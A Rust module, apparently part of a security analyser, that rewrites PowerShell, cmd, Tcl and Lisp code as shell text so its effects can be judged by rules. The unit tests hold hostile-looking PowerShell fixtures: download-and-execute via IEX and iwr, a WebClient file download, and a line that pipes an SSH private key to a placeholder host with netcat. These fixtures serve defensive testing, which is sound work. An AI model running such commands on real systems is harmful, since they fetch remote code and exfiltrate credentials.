//! Languages in which a command is a word and its operands (PowerShell, cmd, Tcl, Lisp): such code is told again as shell text, so
//! that pipes, variables, redirections and programs mean what they mean everywhere. What the words of the language do stands in
//! `rules/commands/` like any program, under the language's prefix or an alias of its own.
//!
//! It is no parser of any of them: conditions are passed over, and what stands in a block counts as run.

use super::{Found, Language};
use crate::effect::text::{Part, Text};

/// Groups inside groups.
const MAX_DEPTH: u32 = 24;

/// Stands for an unknown stretch.
const MARK: char = '\u{e000}';

/// The code as shell text, in which unknown stretches stay unknown.
pub fn scan_words(code: &Text, language: &Language) -> Vec<Found> {
    let chars = code.parts().iter().flat_map(|part| match part {
        Part::Known(text) | Part::Glob(text) => text.chars().collect::<Vec<_>>(),
        Part::Unknown => vec![MARK],
    });
    let mut reader = Reader { chars: chars.collect(), at: 0, language, depth: 0, aside: Vec::new(), too_deep: false };
    let told = reader.statements(None).join("\n");
    let mut text = Text::empty(code.labels);
    for (at, piece) in told.split(MARK).enumerate() {
        if at > 0 {
            text.push_unknown();
        }
        text.push_str(piece);
    }
    let mut found = vec![Found::Shell(text)];
    if reader.too_deep {
        found.push(Found::Opaque("executes"));
    }
    found
}

struct Reader<'a> {
    chars: Vec<char>,
    at: usize,
    language: &'a Language,
    depth: u32,
    /// Statements of blocks, which follow the command that they stand in.
    aside: Vec<String>,
    too_deep: bool,
}

impl Reader<'_> {
    fn peek(&self) -> Option<char> {
        self.chars.get(self.at).copied()
    }

    fn follows(&self, text: &str) -> bool {
        text.chars().enumerate().all(|(n, c)| self.chars.get(self.at + n) == Some(&c))
    }

    /// cmd has no values and keeps its variables between two marks.
    fn is_cmd(&self) -> bool {
        self.language.variable_mark == Some('%')
    }

    fn separates(&self, c: char) -> bool {
        self.language.separators.contains(c)
    }

    fn skip_blanks(&mut self) {
        while let Some(c) = self.peek() {
            let joined = self.language.escape == Some(c) && self.chars.get(self.at + 1) == Some(&'\n');
            let blank = c.is_whitespace() && !self.separates(c) || self.language.blanks.contains(c);
            if joined {
                self.at += 2;
            } else if blank {
                self.at += 1;
            } else {
                break;
            }
        }
    }

    fn skip_comment(&mut self) -> bool {
        let Some(mark) = self.language.comment.iter().find(|m| self.follows(m)) else { return false };
        let end = if mark == "<#" { "#>" } else { "\n" };
        while self.at < self.chars.len() && !self.follows(end) {
            self.at += 1;
        }
        if end != "\n" {
            self.at = (self.at + 2).min(self.chars.len());
        }
        true
    }

    /// The statements up to `close`, each as shell text.
    fn statements(&mut self, close: Option<char>) -> Vec<String> {
        let mut all = Vec::new();
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            if Some(c) == close {
                self.at += 1;
                break;
            }
            if self.skip_comment() {
                continue;
            }
            let calls = c == '&' && self.language.expressions && !self.follows("&&");
            if !calls && self.separates(c) || (c == '@' && self.is_cmd()) {
                self.at += 1;
                continue;
            }
            let before = self.at;
            let statement = self.pipeline(close);
            if !statement.trim().is_empty() {
                all.push(statement);
            }
            all.append(&mut self.aside);
            if self.at == before {
                // A closing mark without its partner.
                self.at += 1;
            }
        }
        all
    }

    fn pipeline(&mut self, close: Option<char>) -> String {
        let mut out = self.command(close);
        loop {
            let joint = ["||", "&&", "|"].into_iter().find(|j| self.separates(j.chars().next().unwrap_or(' ')) && self.follows(j));
            let Some(joint) = joint else { return out };
            self.at += joint.len();
            let next = self.command(close);
            if !out.is_empty() && !next.is_empty() {
                out = format!("{out} {joint} {next}");
            }
        }
    }

    /// One command: its words as shell text, the first one by the name that `rules/commands/` has.
    fn command(&mut self, close: Option<char>) -> String {
        let language = self.language;
        let called = language.expressions && { self.skip_blanks(); self.follows("&") } && { self.at += 1; true };
        let mut words: Vec<String> = Vec::new();
        // What the first word was before it became shell text; empty for an expression.
        let mut first = String::new();
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            if self.separates(c) || Some(c) == close || (!language.comment.is_empty() && self.skip_comment()) {
                break;
            }
            if language.windows && c == '>' {
                self.at += 1;
                let twice = self.follows(">") && { self.at += 1; true };
                self.skip_blanks();
                let (target, _) = self.word(close);
                words.push(format!("{} {}", if twice { ">>" } else { ">" }, if target.is_empty() { "/dev/null".to_owned() } else { target }));
                continue;
            }
            if words.is_empty() && language.statement_groups && language.groups.starts_with(c) {
                // Lisp and cmd: a group is a statement of its own.
                self.at += 1;
                let inner = self.inside(closing(c), |reader, close| reader.statements(close));
                return if language.groups == language.blocks { inner.join("\n") } else { inner.join(" ") };
            }
            let before = self.at;
            let (word, plain) = self.word(close);
            if self.at == before {
                break;
            }
            if words.is_empty() {
                first = plain;
            }
            words.push(word);
        }
        if words.is_empty() {
            return String::new();
        }
        if let Some(assigned) = self.assignment(&first, &words, called) {
            return assigned;
        }
        if first.is_empty() && language.expressions && !called {
            words.insert(0, format!("{}value", language.prefix));
        } else if !first.is_empty() {
            words[0] = self.program(&first);
        }
        words.join(" ")
    }

    /// `$x = value`, `set x value`, `set x=value`.
    fn assignment(&self, first: &str, words: &[String], called: bool) -> Option<String> {
        let name = |text: &str| -> String { text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '_').collect() };
        if self.language.assign.iter().any(|a| a == first) {
            let (variable, value) = match (words.get(1)?, words.get(2)) {
                (pair, _) if pair.contains('=') => pair.split_once('=').map(|(n, v)| (n.to_owned(), v.to_owned()))?,
                (variable, Some(value)) => (variable.clone(), value.clone()),
                _ => return None,
            };
            return Some(format!("{}={value}", name(&variable)));
        }
        if called || !self.language.expressions || words.get(1).map(String::as_str) != Some("=") || !words[0].starts_with("\"$") {
            return None;
        }
        let value = match words.get(2..)? {
            [] => return None,
            [one] => one.clone(),
            // `$x = command operands`: what the command prints.
            [command, ..] if command.starts_with(|c: char| c.is_alphabetic()) => {
                let rest = words[3..].join(" ");
                format!("\"$({} {rest})\"", self.program(command))
            }
            more => more.concat(),
        };
        Some(format!("{}={value}", name(&words[0])))
    }

    /// What `rules/commands/` calls the program or the language's own word.
    fn program(&self, first: &str) -> String {
        let lower = first.to_lowercase();
        let plain = lower.strip_suffix(".exe").unwrap_or(&lower);
        if let Some(name) = self.language.alias.get(plain) {
            return name.clone();
        }
        let own = !self.language.prefix.is_empty() && !self.language.expressions && !self.is_cmd();
        let cmdlet = self.language.expressions && plain.contains('-') && !plain.contains('/');
        let mut out = String::new();
        if own || cmdlet {
            out.push_str(&self.language.prefix);
            literal(&mut out, if own { first } else { plain });
        } else if self.is_cmd() {
            literal(&mut out, plain);
        } else {
            let short = first.strip_suffix(".exe").or(first.strip_suffix(".EXE")).filter(|name| !name.contains('/'));
            literal(&mut out, short.unwrap_or(first));
        }
        out
    }

    /// One word as shell text, and as it stands in the code where it is no more than that.
    fn word(&mut self, close: Option<char>) -> (String, String) {
        let language = self.language;
        let mut out = String::new();
        let mut plain = String::new();
        let mut is_plain = true;
        while let Some(c) = self.peek() {
            if c.is_whitespace() || self.separates(c) || Some(c) == close || language.blanks.contains(c) || (language.windows && c == '>' && !out.is_empty()) {
                break;
            }
            if language.escape == Some(c) {
                self.at += 2;
                let next = self.chars.get(self.at - 1).copied().unwrap_or(' ');
                literal(&mut out, &next.to_string());
                plain.push(next);
                continue;
            }
            if let Some(quote) = language.strings.iter().find(|q| self.follows(q)) {
                // The name of a program may stand in quotes; a string alone is a value.
                is_plain &= !language.expressions;
                let text = self.string(quote);
                plain.push_str(&text.replace('"', ""));
                out.push_str(&text);
                // `'a' + 'b'`
                let here = self.at;
                self.skip_blanks();
                if language.expressions && self.follows("+") {
                    self.at += 1;
                    self.skip_blanks();
                    continue;
                }
                self.at = here;
                continue;
            }
            if language.groups.contains(c) {
                self.at += 1;
                let begin = out.len() - plain.len().min(out.len());
                if language.expressions && is_plain && !plain.is_empty() && !plain.contains(['.', ':', ']']) {
                    // `iex(…)`: the group is the next word.
                    break;
                }
                let method = if language.expressions { method_name(&plain) } else { None };
                if let Some(name) = method {
                    let object = if is_plain { String::new() } else { out.get(..begin).unwrap_or("").to_owned() };
                    let arguments = self.inside(')', |reader, close| vec![reader.command_words(close)]).concat();
                    out = format!("\"$({}{name} {arguments} {object})\"", language.prefix);
                } else {
                    let inner = self.inside(closing(c), |reader, close| reader.statements(close)).join("\n");
                    out.push_str(&format!("\"$({inner})\""));
                }
                plain.clear();
                is_plain = false;
                continue;
            }
            if language.blocks.contains(c) {
                self.at += 1;
                let from = self.at;
                let inner = self.inside(closing(c), |reader, close| reader.statements(close));
                let text: String = self.chars[from..self.at.saturating_sub(1).max(from)].iter().collect();
                literal(&mut out, &text);
                self.aside.extend(inner);
                is_plain = false;
                continue;
            }
            if let Some(variable) = self.variable() {
                // A variable in the name of a program is no expression.
                is_plain = false;
                plain.clear();
                out.push_str(&format!("\"{variable}\""));
                continue;
            }
            self.at += 1;
            let c = if c == '\\' && language.windows { '/' } else { c };
            plain.push(c);
            if out.is_empty() && c == '~' || matches!(c, '*' | '?') {
                out.push(c);
            } else {
                literal(&mut out, &c.to_string());
            }
        }
        // `(…).Content`: a property of a value is the value, as far as anybody knows.
        if language.expressions && !is_plain && plain.starts_with('.') && out.ends_with(&plain) {
            out.truncate(out.len() - plain.len());
        }
        let first = if is_plain { plain } else { String::new() };
        (drive(out), first)
    }

    /// The arguments of a method: words up to `close`.
    fn command_words(&mut self, close: Option<char>) -> String {
        let mut words = Vec::new();
        loop {
            self.skip_blanks();
            let Some(c) = self.peek() else { break };
            self.at += usize::from(Some(c) == close || self.separates(c));
            if Some(c) == close {
                break;
            }
            let before = self.at;
            let (word, _) = self.word(close);
            if self.at == before && !self.separates(c) {
                self.at += 1;
            }
            words.push(word);
        }
        words.join(" ")
    }

    fn inside(&mut self, close: char, read: impl FnOnce(&mut Self, Option<char>) -> Vec<String>) -> Vec<String> {
        if self.depth >= MAX_DEPTH {
            self.too_deep = true;
            self.at = self.chars.len();
            return Vec::new();
        }
        self.depth += 1;
        let outer = std::mem::take(&mut self.aside);
        let mut inner = read(self, Some(close));
        inner.extend(std::mem::replace(&mut self.aside, outer));
        self.depth -= 1;
        inner
    }

    /// A string as shell text, with what is replaced in it.
    fn string(&mut self, quote: &str) -> String {
        let language = self.language;
        self.at += quote.chars().count();
        // `@'` … `'@`
        let end: String = quote.chars().rev().collect();
        let replaces = language.interpolated.iter().any(|q| q == quote);
        let mut out = String::new();
        while self.at < self.chars.len() {
            if self.follows(&end) {
                self.at += end.chars().count();
                // A quote that is written twice is one.
                if language.expressions && end.len() == 1 && self.follows(&end) {
                    self.at += 1;
                    literal(&mut out, &end);
                    continue;
                }
                break;
            }
            let c = self.chars[self.at];
            if language.escape == Some(c) && (replaces || !language.expressions) && !self.is_cmd() {
                let next = self.chars.get(self.at + 1).copied().unwrap_or(' ');
                self.at += 2;
                literal(&mut out, &match next { 'n' => "\n".to_owned(), 'r' => String::new(), 't' => "\t".to_owned(), other => other.to_string() });
                continue;
            }
            if replaces {
                if let Some(open) = language.groups.chars().next()
                    && self.follows(&format!("{}{open}", if language.expressions { "$" } else { "" }))
                {
                    self.at += if language.expressions { 2 } else { 1 };
                    let inner = self.inside(closing(open), |reader, close| reader.statements(close)).join("\n");
                    out.push_str(&format!("\"$({inner})\""));
                    continue;
                }
                if let Some(variable) = self.variable() {
                    out.push_str(&format!("\"{variable}\""));
                    continue;
                }
            }
            self.at += 1;
            let c = if c == '\\' && language.windows { '/' } else { c };
            if out.is_empty() && c == '~' {
                out.push(c);
            } else {
                literal(&mut out, &c.to_string());
            }
        }
        if out.is_empty() { "''".to_owned() } else { out }
    }

    /// A variable's place in shell text: `$env:X`, `$x`, `${x}`, `$env(X)`, `%X%`.
    fn variable(&mut self) -> Option<String> {
        let language = self.language;
        let sigil = self.peek()?;
        let name_end = |from: usize, stop: &dyn Fn(char) -> bool| (from..self.chars.len()).find(|at| stop(self.chars[*at])).unwrap_or(self.chars.len());
        let (name, end) = if self.is_cmd() && matches!(sigil, '%' | '!') {
            let end = name_end(self.at + 1, &|c| c == sigil || c.is_whitespace());
            if self.chars.get(end) != Some(&sigil) || end == self.at + 1 {
                return None;
            }
            (self.chars[self.at + 1..end].iter().collect::<String>(), end + 1)
        } else if language.variable_mark == Some(sigil) && !self.is_cmd() {
            if self.chars.get(self.at + 1) == Some(&'{') {
                let end = name_end(self.at + 2, &|c| c == '}');
                (self.chars[self.at + 2..end].iter().collect::<String>(), (end + 1).min(self.chars.len()))
            } else {
                let end = name_end(self.at + 1, &|c| !(c.is_alphanumeric() || matches!(c, '_' | ':')));
                let mut name: String = self.chars[self.at + 1..end].iter().collect();
                let mut end = end;
                // Tcl's `$env(HOME)`
                if !language.expressions && self.chars.get(end) == Some(&'(') {
                    let after = name_end(end, &|c| c == ')');
                    name.extend(&self.chars[end..after]);
                    end = (after + 1).min(self.chars.len());
                }
                if name.is_empty() {
                    return None;
                }
                (name, end)
            }
        } else {
            return None;
        };
        self.at = end;
        let lower = name.trim_start_matches(':').to_lowercase();
        if let Some(mapped) = language.variables.get(&lower) {
            return Some(mapped.clone());
        }
        let plain = lower.rsplit([':', '(']).next().unwrap_or(&lower);
        let from_environment = self.is_cmd() || lower.starts_with("env:") || lower.starts_with("env(");
        let name: String = if from_environment { name.rsplit([':', '(']).next().unwrap_or("").to_owned() } else { plain.to_owned() };
        let name: String = name.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '_').collect();
        Some(if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) { MARK.to_string() } else { format!("${{{name}}}") })
    }
}

/// What closes a group.
fn closing(open: char) -> char {
    match open {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        other => other,
    }
}

/// Adds text that means itself to shell text.
fn literal(out: &mut String, text: &str) {
    for c in text.chars() {
        if c.is_alphanumeric() || c == MARK || "_./-:=,@+%".contains(c) {
            out.push(c);
        } else if c == '\'' {
            out.push_str("\\'");
        } else if out.ends_with('\'') && !out.ends_with("\\'") && out.len() > 1 {
            out.pop();
            out.push(c);
            out.push('\'');
        } else {
            out.extend(['\'', c, '\'']);
        }
    }
}

/// `C:/x` → `/c:/x`, so that it is absolute.
fn drive(word: String) -> String {
    let mut chars = word.chars();
    match (chars.next(), chars.next(), chars.next()) {
        (Some(letter), Some(':'), Some('/') | None) if letter.is_ascii_alphabetic() => format!("/{}{}", letter.to_ascii_lowercase(), &word[1..]),
        _ => word,
    }
}

/// `[IO.File]::ReadAllText`, `.DownloadString`, `Net.Sockets.TCPClient` before a parenthesis: the last name, in small letters.
fn method_name(plain: &str) -> Option<String> {
    let name = plain.rsplit(['.', ':', ']']).next().unwrap_or(plain);
    (plain.len() > 1 && !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')).then(|| name.to_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn told(language: &Language, code: &str) -> String {
        match scan_words(&Text::known(code), language).as_slice() {
            [Found::Shell(text)] => text.to_string(),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn lisp_and_tcl_become_commands_of_their_prefix() {
        let lisp = Language { prefix: "lisp ".into(), strings: vec!["\"".into()], groups: "(".into(), statement_groups: true, comment: vec![";".into()], escape: Some('\\'), ..Language::default() };
        assert_eq!(told(&lisp, "(f \"a b\" (g 1)) ; no"), "lisp f a' 'b \"$(lisp g 1)\"");
        let tcl = Language {
            prefix: "tcl ".into(),
            strings: vec!["\"".into()],
            interpolated: vec!["\"".into()],
            groups: "[".into(),
            blocks: "{".into(),
            separators: "\n;".into(),
            escape: Some('\\'),
            assign: vec!["set".into()],
            variable_mark: Some('$'),
            ..Language::default()
        };
        assert_eq!(told(&tcl, "set x 1; puts [exec a $x]\nif {1} {exec b}"), "x=1\ntcl puts \"$(tcl exec a \"${x}\")\"\ntcl if 1 exec' 'b\ntcl 1\ntcl exec b");
    }

    #[test]
    fn powershell_and_cmd_become_programs_and_cmdlets() {
        let strings = vec!["\"".to_owned(), "'".to_owned()];
        let shell = Language {
            prefix: "ps ".into(),
            strings: strings.clone(),
            interpolated: vec!["\"".into()],
            groups: "(".into(),
            blocks: "{".into(),
            blanks: ",".into(),
            separators: "\n;|&".into(),
            escape: Some('`'),
            expressions: true,
            windows: true,
            variable_mark: Some('$'),
            alias: [("iex".to_owned(), "ps invoke-expression".to_owned())].into(),
            variables: [("env:userprofile".to_owned(), "$HOME".to_owned())].into(),
            ..Language::default()
        };
        for (code, wanted) in [
            ("IEX (iwr 'http://h/x')", "ps invoke-expression \"$(iwr http://h/x)\""),
            ("$w = New-Object Net.WebClient; $w.DownloadFile('http://h', \"$env:TEMP\\x\")", "w=\"$(ps new-object Net.WebClient)\"\nps value \"$(ps downloadfile http://h \"${TEMP}\"/x \"${w}\")\""),
            ("Get-Content $env:USERPROFILE\\.ssh\\id | nc.exe h 9", "ps get-content \"$HOME\"/.ssh/id | nc h 9"),
            ("& 'C:\\a b\\x.exe' > C:\\o", "/c:/a' 'b/x.exe > /c:/o"),
            ("(New-Object X).DownloadString('u').Content", "ps value \"$(ps downloadstring u \"$(ps new-object X)\")\""),
        ] {
            assert_eq!(told(&shell, code), wanted, "{code}");
        }
        let cmd = Language { interpolated: vec!["\"".into()], separators: "\n|&".into(), strings: vec!["\"".into()], variable_mark: Some('%'), windows: true, escape: Some('^'), prefix: "cmd ".into(), assign: vec!["set".into()], ..Language::default() };
        assert_eq!(told(&cmd, "@DEL /q \"%TEMP%\\x\" & set a=b&&ty^pe c>d"), "del /q \"${TEMP}\"/x\na=b && type c > d");
    }
}
